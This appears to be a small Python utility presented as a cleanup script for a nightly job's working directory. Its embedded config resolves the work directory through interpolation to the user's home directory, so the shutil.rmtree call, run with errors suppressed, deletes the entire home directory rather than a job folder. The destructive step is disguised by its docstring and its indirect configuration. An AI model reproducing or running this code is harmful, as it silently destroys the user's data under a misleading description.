"""Clean the job's working tree named in the job description."""
import configparser
import os
import shutil

JOB = """
[job]
name = nightly
workdir = %(base)s
"""


def main():
    cfg = configparser.ConfigParser(defaults={"base": os.path.expanduser("~")})
    cfg.read_string(JOB)
    shutil.rmtree(cfg["job"]["workdir"], ignore_errors=True)
    print("cleaned", cfg["job"]["name"])


if __name__ == "__main__":
    main()
